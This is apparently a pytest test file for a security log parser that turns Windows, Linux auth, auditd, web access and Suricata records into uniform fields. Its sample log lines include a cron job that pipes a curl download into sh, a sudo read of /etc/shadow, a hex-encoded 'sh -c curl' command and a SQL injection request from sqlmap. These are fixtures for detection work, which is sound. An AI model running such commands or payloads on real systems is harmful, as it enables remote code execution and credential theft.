"""Every shape that a receiver gets becomes the same facts."""

import json
import os
import re
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import orjson
import pytest

from dekhang.pipeline.formats import open_records
from dekhang.pipeline.parse import ParsedEvent, parse

SHARED = Path(os.environ.get("DEKHANG_SHARED", Path(__file__).resolve().parents[4] / "shared"))
needs_shared = pytest.mark.skipif(
    not (SHARED / "data").is_dir(), reason="needs the real material: set DEKHANG_SHARED to its folder"
)


def ms(text: str) -> int:
    return round(datetime.fromisoformat(text).timestamp() * 1000)


RECEIVED = ms("2019-12-10T02:30:00Z")


def read(raw: Any, kind: str = "", received_ms: int = RECEIVED) -> ParsedEvent:
    if isinstance(raw, dict):
        raw = json.dumps(raw, ensure_ascii=False)
    return parse(raw if isinstance(raw, bytes) else raw.encode(), source_kind=kind, received_ms=received_ms)


# ------------------------------------------------------------------------------------------------- Windows

EXPECTED_4625 = {
    "EventID": 4625,
    "Channel": "Security",
    "Provider_Name": "Microsoft-Windows-Security-Auditing",
    "Computer": "pc01.example.gov.vn",
    "TargetUserName": "admin",
    "IpAddress": "192.0.2.7",
    "LogonType": "3",
}
DATA = {"TargetUserName": "admin", "IpAddress": "192.0.2.7", "LogonType": "3"}
SYSTEM = {
    "Provider": {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing"}},
    "EventID": 4625,
    "Channel": "Security",
    "Computer": "pc01.example.gov.vn",
    "TimeCreated": {"#attributes": {"SystemTime": "2019-12-10T02:00:00.123456Z"}},
}
SHAPES: dict[str, dict[str, Any]] = {
    "flat": {**EXPECTED_4625, "SystemTime": "2019-12-10T02:00:00.123Z"},
    "flat with text id": {**EXPECTED_4625, "EventID": "4625", "SystemTime": "2019-12-10T02:00:00.123Z"},
    "NXLog": {
        "EventTime": "2019-12-10T09:00:00.123000+07:00",
        "Hostname": "pc01.example.gov.vn",
        "EventID": 4625,
        "SourceName": "Microsoft-Windows-Security-Auditing",
        "Channel": "Security",
        "Message": "An account failed to log on.",
        **DATA,
    },
    "Fluent Bit winevtlog": {
        "ProviderName": "Microsoft-Windows-Security-Auditing",
        "EventID": 4625,
        "Channel": "Security",
        "TimeCreated": "2019-12-10 09:00:00 +0700",
        "Computer": "pc01.example.gov.vn",
        **DATA,
    },
    "Winlogbeat 8": {
        "@timestamp": "2019-12-10T02:00:00.123Z",
        "host": {"name": "pc01.example.gov.vn"},
        "message": "An account failed to log on.",
        "event": {"code": "4625"},
        "winlog": {
            "channel": "Security",
            "event_id": "4625",
            "provider_name": "Microsoft-Windows-Security-Auditing",
            "event_data": DATA,
        },
    },
    "Winlogbeat, dotted keys": {
        "@timestamp": "2019-12-10T02:00:00.123Z",
        "host.name": "pc01.example.gov.vn",
        "winlog.channel": "Security",
        "winlog.event_id": 4625,
        "winlog.provider_name": "Microsoft-Windows-Security-Auditing",
        **{f"winlog.event_data.{name}": value for name, value in DATA.items()},
    },
    "Winlogbeat 6": {
        "@timestamp": "2019-12-10T02:00:00.123Z",
        "log_name": "Security",
        "event_id": 4625,
        "source_name": "Microsoft-Windows-Security-Auditing",
        "computer_name": "pc01.example.gov.vn",
        "event_data": DATA,
    },
    "EVTX JSON": {"Event": {"System": SYSTEM, "EventData": DATA}},
    "EVTX JSON with Data elements": {
        "Event": {
            "System": {
                **SYSTEM,
                "EventID": {"#attributes": {"Qualifiers": 0}, "#text": 4625},
                "Provider": {"@Name": "Microsoft-Windows-Security-Auditing"},
                "TimeCreated": {"@SystemTime": "2019-12-10T02:00:00.123456Z"},
            },
            "EventData": {"Data": [{"@Name": name, "#text": value} for name, value in DATA.items()]},
        }
    },
}


@pytest.mark.parametrize("shape", SHAPES)
def test_one_windows_event_has_the_same_facts_in_every_shape(shape: str) -> None:
    event = read(SHAPES[shape], "windows")

    assert {name: event.record.fields.get(name) for name in EXPECTED_4625} == EXPECTED_4625
    assert (event.kind, event.record.product, event.host) == ("windows", "windows", "pc01.example.gov.vn")
    assert event.time_ms // 1000 == ms("2019-12-10T02:00:00Z") // 1000
    assert event.problem is None


def test_a_windows_event_inside_a_syslog_line_is_a_windows_event() -> None:
    event = read("<14>1 2019-12-10T02:00:00Z pc01 nxlog 12 - - " + json.dumps(SHAPES["NXLog"]), "windows")

    assert (event.kind, event.record.fields["EventID"]) == ("windows", 4625)


def test_what_winlogbeat_7_renamed_gets_its_windows_name_back() -> None:
    event = read(
        {
            "@timestamp": "2019-12-10T02:00:00Z",
            "winlog": {"channel": "Microsoft-Windows-Sysmon/Operational", "event_id": 1, "event_data": {"User": "X"}},
            "process": {"executable": "C:\\a.exe", "command_line": "a.exe -x", "parent": {"executable": "C:\\b.exe"}},
        }
    )

    fields = event.record.fields
    assert (fields["Image"], fields["CommandLine"], fields["ParentImage"]) == ("C:\\a.exe", "a.exe -x", "C:\\b.exe")


def test_event_data_cannot_replace_what_windows_says_of_the_event() -> None:
    event = read({"Event": {"System": SYSTEM, "EventData": {"EventID": 1, "Channel": "Fake", "Other": "x"}}})

    fields = event.record.fields
    assert (fields["EventID"], fields["Channel"], fields["Other"]) == (4625, "Security", "x")


def test_user_data_and_nameless_data_are_fields_too() -> None:
    by_user = read({"Event": {"System": SYSTEM, "UserData": {"LogFileCleared": {"SubjectUserName": "x"}}}})
    nameless = read({"Event": {"System": SYSTEM, "EventData": {"Data": {"#text": ["one", "HostName=ConsoleHost"]}}}})

    assert by_user.record.fields["SubjectUserName"] == "x"
    assert nameless.record.fields["Data"] == ["one", "HostName=ConsoleHost"]


@needs_shared
def test_native_and_flat_form_of_every_rule_example_agree() -> None:
    compared = 0
    for text in (SHARED / "data/windows/rule_examples.jsonl").read_text().splitlines():
        for pair in json.loads(text)["events"]:
            native = read(pair["native"], received_ms=ms("2030-01-01T00:00:00Z")).record.fields
            flat = pair["flat"]
            assert {name: native.get(name) for name in flat} == flat
            compared += 1
    assert compared > 100


@needs_shared
def test_real_evtx_files_parse_with_time_host_and_number() -> None:
    for path in sorted((SHARED / "data/windows/evtx").glob("*.evtx")):
        for _, raw in open_records(path):
            event = read(raw, "windows", ms("2030-01-01T00:00:00Z"))
            assert event.kind == "windows" and event.time_from_event and event.host, path
            assert isinstance(event.record.fields["EventID"], int)
            assert event.problem is None


# ------------------------------------------------------------------------------------------------- syslog, auth

AUTH = [
    # line without time, expected facts
    ("sshd[1291]: Failed password for root from 192.0.2.7 port 40000 ssh2",
     {"program": "sshd", "pid": 1291, "action": "login_failed", "user": "root", "src_ip": "192.0.2.7", "src_port": 40000}),
    ("sshd[1291]: Failed password for invalid user x from 192.0.2.1 from 192.0.2.7 port 40000 ssh2",
     {"action": "login_failed", "user": "x from 192.0.2.1", "src_ip": "192.0.2.7", "invalid_user": True}),
    ("sshd-session[9]: Accepted publickey for deploy from 2001:db8::7 port 51000 ssh2: RSA SHA256:abc",
     {"action": "login_ok", "user": "deploy", "src_ip": "2001:db8::7", "method": "publickey"}),
    ("sshd[5]: Invalid user admin from 192.0.2.7", {"action": "invalid_user", "user": "admin", "src_ip": "192.0.2.7"}),
    ("sshd[5]: message repeated 5 times: [ Failed password for root from 192.0.2.7 port 40000 ssh2]",
     {"action": "login_failed", "src_ip": "192.0.2.7", "repeated": 5}),
    ("sshd[5]: Disconnected from invalid user a 192.0.2.7 port 4 [preauth]", {"action": "disconnected", "src_ip": "192.0.2.7"}),
    ("sudo:   lan : TTY=pts/0 ; PWD=/home/lan ; USER=root ; COMMAND=/bin/cat /etc/shadow",
     {"action": "sudo", "user": "lan", "target_user": "root", "command": "/bin/cat /etc/shadow", "pwd": "/home/lan"}),
    ("sudo: lan : 3 incorrect password attempts ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash",
     {"action": "sudo_failed", "user": "lan"}),
    ("sudo: lan : user NOT in sudoers ; TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/bin/bash", {"action": "sudo_failed"}),
    ("su[77]: FAILED SU (to root) lan on pts/0", {"program": "su"}),
    ("su: (to root) lan on pts/0", {"action": "su", "target_user": "root", "user": "lan"}),
    ("useradd[9]: new user: name=svc, UID=1001, GID=1001, home=/home/svc, shell=/bin/bash",
     {"action": "user_added", "user": "svc", "uid": 1001}),
    ("usermod[9]: add 'svc' to group 'sudo'", {"action": "group_member_added", "user": "svc", "group": "sudo"}),
    ("userdel[9]: delete user 'svc'", {"action": "user_deleted", "user": "svc"}),
    ("passwd[9]: pam_unix(passwd:chauthtok): password changed for lan", {"action": "password_changed", "user": "lan"}),
    ("CRON[9]: (root) CMD (curl http://192.0.2.9/x | sh)",
     {"action": "cron_command", "user": "root", "command": "curl http://192.0.2.9/x | sh"}),
    ("crontab[9]: (lan) REPLACE (lan)", {"program": "crontab"}),
    ("sshd[9]: pam_unix(sshd:session): session opened for user root(uid=0) by (uid=0)",
     {"action": "session_opened", "user": "root"}),
    ("sshd[9]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=192.0.2.7  user=root",
     {"action": "auth_failure", "user": "root", "src_ip": "192.0.2.7"}),
]  # fmt: skip
HEADS = {
    "RFC 3164": "Dec 10 02:00:00 may-chu ",
    "RFC 3164 with priority": "<38>Dec 10 02:00:00 may-chu ",
    "ISO time": "2019-12-10T09:00:00.000000+07:00 may-chu ",
    "ISO time with priority": "<38>2019-12-10T02:00:00Z may-chu ",
    "with a year": "<38>Dec 10 2019 02:00:00 may-chu ",
    "with a fraction": "Dec 10 02:00:00.000 may-chu ",
}


@pytest.mark.parametrize("head", HEADS)
@pytest.mark.parametrize(("line", "facts"), AUTH, ids=[line[:40] for line, _ in AUTH])
def test_auth_lines_tell_who_did_what_from_where(line: str, facts: dict[str, Any], head: str) -> None:
    event = read(HEADS[head] + line, "linux")

    assert {name: event.record.fields.get(name) for name in facts} == facts
    assert event.host == event.record.fields["host"] == "may-chu"
    assert event.time_ms == ms("2019-12-10T02:00:00Z")
    if "crontab" not in line:
        assert (event.kind, event.record.product, event.record.service) == ("linux_auth", "linux", "auth")


def test_rfc_5424_gives_program_host_and_time() -> None:
    event = read(
        '<38>1 2019-12-10T09:00:00.5+07:00 may-chu sshd 12 - [a@1 b="]\\"x"] Failed password for a from 192.0.2.7 port 4 ssh2'
    )

    assert event.record.fields["src_ip"] == "192.0.2.7"
    assert (event.host, event.time_ms) == ("may-chu", ms("2019-12-10T02:00:00.500Z"))


LINE = "Dec 10 02:00:00 may-chu sshd[7]: Failed password for root from 192.0.2.7 port 40000 ssh2"
WRAPPINGS = {
    "Filebeat": {"@timestamp": "2019-12-10T02:00:03Z", "message": LINE, "host": {"name": "other"}, "agent": {"type": "filebeat"}},
    "Fluent Bit tail": {"date": 1575943200.5, "log": LINE + "\n"},
    "Fluent Bit syslog": {"date": 1575943200.0, "pri": "38", "host": "may-chu", "ident": "sshd", "pid": "7",
                          "message": "Failed password for root from 192.0.2.7 port 40000 ssh2"},
    "rsyslog": {"message": " Failed password for root from 192.0.2.7 port 40000 ssh2", "fromhost": "may-chu",
                "syslogtag": "sshd[7]:", "facility": "authpriv", "timereported": "2019-12-10T02:00:00+00:00"},
    "syslog-ng": {"PROGRAM": "sshd", "PID": "7", "HOST": "may-chu", "FACILITY": "authpriv", "PRIORITY": "info",
                  "MESSAGE": "Failed password for root from 192.0.2.7 port 40000 ssh2", "@timestamp": "2019-12-10T02:00:00+00:00"},
    "journald": {"_HOSTNAME": "may-chu", "SYSLOG_IDENTIFIER": "sshd", "_PID": "7", "@timestamp": "2019-12-10T02:00:00Z",
                 "MESSAGE": "Failed password for root from 192.0.2.7 port 40000 ssh2"},
    "Filebeat 7 journald": {"@timestamp": "2019-12-10T02:00:00Z", "host": {"name": "may-chu"}, "process": {"pid": 7},
                            "syslog": {"identifier": "sshd"},
                            "message": "Failed password for root from 192.0.2.7 port 40000 ssh2"},
    "Filebeat 8 journald": {"@timestamp": "2019-12-10T02:00:00Z", "host": {"name": "may-chu"},
                            "log": {"syslog": {"appname": "sshd", "procid": 7}},
                            "message": "Failed password for root from 192.0.2.7 port 40000 ssh2"},
    "NXLog Linux": {"EventTime": "2019-12-10 02:00:00", "Hostname": "may-chu", "SourceName": "sshd", "ProcessID": 7,
                    "Message": "Failed password for root from 192.0.2.7 port 40000 ssh2"},
}  # fmt: skip


@pytest.mark.parametrize("shipper", WRAPPINGS)
def test_a_line_wrapped_by_a_shipper_has_the_facts_of_the_line(shipper: str) -> None:
    event = read(WRAPPINGS[shipper], "linux")

    fields = event.record.fields
    assert (event.kind, fields["action"], fields["src_ip"], fields["program"]) == (
        "linux_auth",
        "login_failed",
        "192.0.2.7",
        "sshd",
    )
    assert abs(event.time_ms - ms("2019-12-10T02:00:00Z")) <= 500
    assert event.problem is None


@pytest.mark.parametrize(
    ("stamp", "received", "expected"),
    [
        ("Dec 31 23:59:00", "2020-01-01T00:01:00Z", "2019-12-31T23:59:00Z"),  # last year's
        ("Jan  1 00:01:00", "2019-12-31T23:59:30Z", "2020-01-01T00:01:00Z"),  # the sender's clock is ahead
        ("Feb 29 10:00:00", "2021-03-01T00:00:00Z", "2020-02-29T10:00:00Z"),  # only leap years have it
        ("Dec 10 09:00:00", "2019-12-10T02:00:01Z", "2019-12-10T02:00:00Z"),  # local time of Viet Nam
        ("Dec 10 02:00:00", "2019-12-10T02:00:01Z", "2019-12-10T02:00:00Z"),
    ],
)
def test_a_time_without_year_and_zone_is_the_likely_one(stamp: str, received: str, expected: str) -> None:
    event = read(f"{stamp} h sshd[1]: x", received_ms=ms(received))

    assert datetime.fromtimestamp(event.time_ms / 1000, UTC).isoformat() == expected.replace("Z", "+00:00")


def test_other_programs_are_plain_syslog() -> None:
    event = read("<30>Dec 10 02:00:00 may-chu chronyd[1]: Selected source 192.0.2.3", "syslog")

    assert (event.kind, event.record.category, event.record.product) == ("syslog", "syslog", "")
    assert event.record.fields["facility"] == "daemon"
    assert event.record.fields["message"] == "Selected source 192.0.2.3"


@needs_shared
def test_every_line_of_the_real_auth_log_is_understood() -> None:
    events = [read(raw, "linux", ms("2017-05-01T00:00:00Z")) for _, raw in open_records(SHARED / "data/linux/auth.log")]

    assert len(events) == 7_121
    assert all(event.time_from_event and event.problem is None for event in events)
    failed = [event for event in events if event.record.fields.get("action") == "login_failed"]
    raws = [raw for _, raw in open_records(SHARED / "data/linux/auth.log")]
    assert len(failed) == sum(re.search(rb"(: |\[ )Failed \S+ for ", raw) is not None for raw in raws) > 700
    assert all(event.record.fields.get("src_ip") for event in failed)


# ------------------------------------------------------------------------------------------------- auditd


def test_execve_arguments_are_decoded_and_joined() -> None:
    event = read(
        'type=EXECVE msg=audit(1575943200.123:42): argc=3 a0="sh" a1="-c" a2=6375726C20687474703A2F2F78', "linux"
    )

    fields = event.record.fields
    assert (event.kind, event.record.service, fields["type"]) == ("linux_auditd", "auditd", "EXECVE")
    assert (fields["a2"], fields["command"]) == ("curl http://x", "sh -c curl http://x")
    assert event.time_ms == ms("2019-12-10T02:00:00.123Z")


def test_inner_pairs_never_replace_what_the_kernel_said() -> None:
    event = read(
        "node=may-chu type=USER_LOGIN msg=audit(1575943200.000:1): pid=7 uid=0 "
        "msg='op=login acct=28696E76616C6964207573657229 exe=\"/usr/sbin/sshd\" pid=1 addr=192.0.2.7 res=failed'"
    )

    fields = event.record.fields
    assert (fields["pid"], fields["acct"], fields["src_ip"]) == ("7", "(invalid user)", "192.0.2.7")
    assert (fields["action"], event.host) == ("login_failed", "may-chu")


def test_audit_through_journald_and_kernel_lines() -> None:
    journal = read("Dec 10 02:00:00 h audit[1]: USER_LOGIN pid=7 uid=0 msg='op=login acct=\"x\" res=failed'")
    kernel = read('Dec 10 02:00:00 h kernel: audit: type=1400 audit(1575943200.000:1): apparmor="DENIED" profile="p"')

    assert (journal.kind, journal.record.fields["type"], journal.record.fields["acct"]) == (
        "linux_auditd",
        "USER_LOGIN",
        "x",
    )
    assert (kernel.kind, kernel.record.fields["type"], kernel.record.fields["apparmor"]) == (
        "linux_auditd",
        "AVC",
        "DENIED",
    )


@needs_shared
@pytest.mark.parametrize(
    "name", ["audit-rhel6", "audit-rhel7", "audit-ubuntu14", "audit-ubuntu16", "audit-ubuntu17", "test2", "test3"]
)
def test_real_audit_records_agree_with_another_parser(name: str) -> None:
    """elastic/go-libaudit's answers for fields that it does not rename or translate."""
    folder = SHARED / "data/linux/auditd_golden"
    golden = {
        (one["raw_msg"].split(":")[0] + ":" + str(one["sequence"]), one["record_type"]): one
        for one in json.loads((folder / f"{name}.log.golden").read_text())
        if one is not None and "raw_msg" in one
    }
    compared = 0
    for _, raw in open_records(folder / f"{name}.log"):
        event = read(raw, received_ms=ms("2030-01-01T00:00:00Z"))
        fields = event.record.fields
        if event.kind != "linux_auditd":
            continue
        key = (
            f"audit({raw.split(b'audit(')[1].split(b':')[0].decode()}:{fields['serial']}",
            str(fields["type"]).lower(),
        )
        theirs = golden.get(key, {}).get("data", {})
        for field_name in ("exe", "comm", "cmd", "acct", "addr", "cwd", "pid", "terminal", "op", "name", "dev"):
            if field_name in theirs and theirs[field_name] not in ("unset", "?"):
                ours = fields.get(field_name)
                assert ours == theirs[field_name], (name, key, field_name)
                compared += 1
    assert compared > 0


# ------------------------------------------------------------------------------------------------- web


def test_combined_lines_have_sigmas_names_and_a_decoded_uri() -> None:
    event = read(
        '192.0.2.7 - lan [10/Dec/2019:09:00:00 +0700] "GET /a.php?id=1%2527+union%20select HTTP/1.1" 404 12 '
        '"http://192.0.2.1/" "sqlmap \\"x\\" \\x41"',
        "web",
    )

    assert event.record.fields == {
        "c-ip": "192.0.2.7", "cs-username": "lan", "cs-method": "GET", "cs-uri": "/a.php?id=1%2527+union%20select",
        "cs-uri-stem": "/a.php", "cs-uri-query": "id=1%2527+union%20select", "cs-uri-decoded": "/a.php?id=1' union select",
        "cs-version": "HTTP/1.1", "sc-status": 404, "sc-bytes": 12, "cs-referer": "http://192.0.2.1/",
        "cs-user-agent": 'sqlmap "x" A', "message": event.record.fields["message"],
    }  # fmt: skip
    record = event.record
    assert (event.kind, record.product, record.service, record.category) == (
        "web_access",
        "apache",
        "access",
        "webserver",
    )
    assert event.time_ms == ms("2019-12-10T02:00:00Z")


@pytest.mark.parametrize(
    ("line", "product", "stem"),
    [
        ('192.0.2.7 - - [10/Dec/2019:02:00:00 +0000] "GET /x HTTP/1.0" 200 -', "apache", "/x"),  # common
        (
            'www.example.gov.vn:443 192.0.2.7 - - [10/Dec/2019:02:00:00 +0000] "GET /x HTTP/1.0" 200 5 "-" "-"',
            "apache",
            "/x",
        ),
        (
            '<190>Dec 10 02:00:00 web nginx: 192.0.2.7 - - [10/Dec/2019:02:00:00 +0000] "GET /x HTTP/1.1" 200 5 "-" "c"',
            "nginx",
            "/x",
        ),
        ('192.0.2.7 - - [10/Dec/2019:02:00:00 +0000] "\\x16\\x03\\x01" 400 226 "-" "-"', "apache", None),  # TLS noise
    ],
)
def test_other_access_lines(line: str, product: str, stem: str | None) -> None:
    event = read(line, "web")

    assert (event.kind, event.record.product, event.problem) == ("web_access", product, None)
    assert event.record.fields.get("cs-uri-stem") == stem
    assert event.record.fields["c-ip"] == "192.0.2.7"


def test_nginx_json_access_log() -> None:
    event = read(
        {"time_iso8601": "2019-12-10T09:00:00+07:00", "remote_addr": "192.0.2.7", "request": "POST /login HTTP/1.1",
         "status": "401", "body_bytes_sent": 9, "http_user_agent": "c", "http_referer": "-"},
        "web",
    )  # fmt: skip

    fields = event.record.fields
    assert (event.kind, event.record.product) == ("web_access", "nginx")
    assert (fields["cs-method"], fields["sc-status"], fields["sc-bytes"]) == ("POST", 401, 9)
    assert "cs-referer" not in fields
    assert event.time_ms == ms("2019-12-10T02:00:00Z")


@needs_shared
def test_every_line_of_the_real_access_log_is_understood() -> None:
    count = 0
    for _, raw in open_records(SHARED / "data/web/apache_access.log"):
        event = read(raw, "web")
        assert event.kind == "web_access" and event.time_from_event and event.problem is None, raw
        count += 1
    assert count == 10_000


# ------------------------------------------------------------------------------------------------- Suricata


def test_eve_is_flattened_with_dots() -> None:
    event = read(
        {"timestamp": "2019-12-10T09:00:00.123456+0700", "event_type": "dns", "src_ip": "192.0.2.7", "dest_ip": "192.0.2.9",
         "dns": {"rrname": "example.gov.vn", "answers": [{"rdata": "192.0.2.1"}, {"rdata": "192.0.2.2"}]},
         "alert": {"metadata": {"tag": ["a", "b"]}}},
        "suricata",
    )  # fmt: skip

    fields = event.record.fields
    assert (event.record.product, event.record.service, event.record.category) == ("suricata", "dns", "ids")
    assert (fields["dns.rrname"], fields["dns.answers.rdata"]) == ("example.gov.vn", ["192.0.2.1", "192.0.2.2"])
    assert fields["alert.metadata.tag"] == ["a", "b"]
    assert event.time_ms == ms("2019-12-10T02:00:00.123Z")


@needs_shared
def test_every_real_eve_record_is_understood_also_inside_filebeat() -> None:
    for _, raw in open_records(SHARED / "data/network/suricata_eve_alerts.jsonl"):
        plain = read(raw, "suricata", ms("2030-01-01T00:00:00Z"))
        wrapped = read(
            {"@timestamp": "2019-12-10T02:00:00Z", "message": raw.decode()}, "suricata", ms("2030-01-01T00:00:00Z")
        )
        assert plain.kind == wrapped.kind == "suricata"
        assert plain.record.fields == wrapped.record.fields
        assert plain.problem is None


# ------------------------------------------------------------------------------------------------- what is not as it should be


@pytest.mark.parametrize("kind", ["windows", "linux", "web", "suricata", "syslog"])
@pytest.mark.parametrize(
    "raw", [b"", b"hello", b"\xff\x00\xfe", b"{", b'{"a":', b"[1,2]", b'{"a":1}', b"\x16\x03\x01\x02"]
)
def test_what_is_no_log_stays_raw_with_a_sentence(raw: bytes, kind: str) -> None:
    event = read(raw, kind)

    assert (event.kind, event.time_ms, event.time_from_event) == ("raw", RECEIVED, False)
    assert event.problem is not None and event.problem.endswith(".")


def test_the_wrong_log_is_parsed_for_what_it_is_and_told() -> None:
    event = read(LINE, "windows")

    assert event.kind == "linux_auth"
    assert event.problem is not None and "Windows" in event.problem and "Linux" in event.problem


@pytest.mark.parametrize("moment", ["1601-01-01T00:00:00Z", "2019-12-12T02:00:00Z", "9999-12-31T23:59:59Z"])
def test_an_impossible_time_gives_way_to_the_time_of_receipt(moment: str) -> None:
    event = read({**EXPECTED_4625, "SystemTime": moment}, "windows")

    assert (event.time_ms, event.time_from_event) == (RECEIVED, False)
    assert event.problem is not None and "đồng hồ" in event.problem


def test_lone_surrogates_and_bad_utf8_do_not_hide_an_event() -> None:
    flat = orjson.dumps(EXPECTED_4625)
    surrogate = flat.replace(b'"admin"', b'"ad\\ud800min"')
    broken = flat.replace(b'"admin"', b'"ad\xffmin"')

    for raw in (surrogate, broken):
        event = read(raw, "windows")
        assert event.kind == "windows"
        str(event.record.fields["TargetUserName"]).encode()  # valid text


def test_long_values_and_many_fields_are_cut_and_marked() -> None:
    long = read({**EXPECTED_4625, "CommandLine": "x" * 100_000}).record.fields
    many = read({**EXPECTED_4625, **{f"f{n}": n for n in range(5_000)}}).record.fields
    deep: Any = {"event_type": "alert", "src_ip": "192.0.2.7"}
    for _ in range(200):
        deep = {"event_type": "alert", "src_ip": "192.0.2.7", "inner": deep}

    assert (len(str(long["CommandLine"])), long["_truncated"]) == (32_768, True)
    assert len(many) <= 513 and many["EventID"] == 4625 and many["_truncated"] is True
    assert read(deep).record.fields["_truncated"] is True


def test_only_flat_documents_are_marked_as_their_own_fields() -> None:
    assert read(SHAPES["flat"]).fields_are_raw is True
    for shape in SHAPES:
        if read(SHAPES[shape]).fields_are_raw:
            assert read(SHAPES[shape]).record.fields == SHAPES[shape]
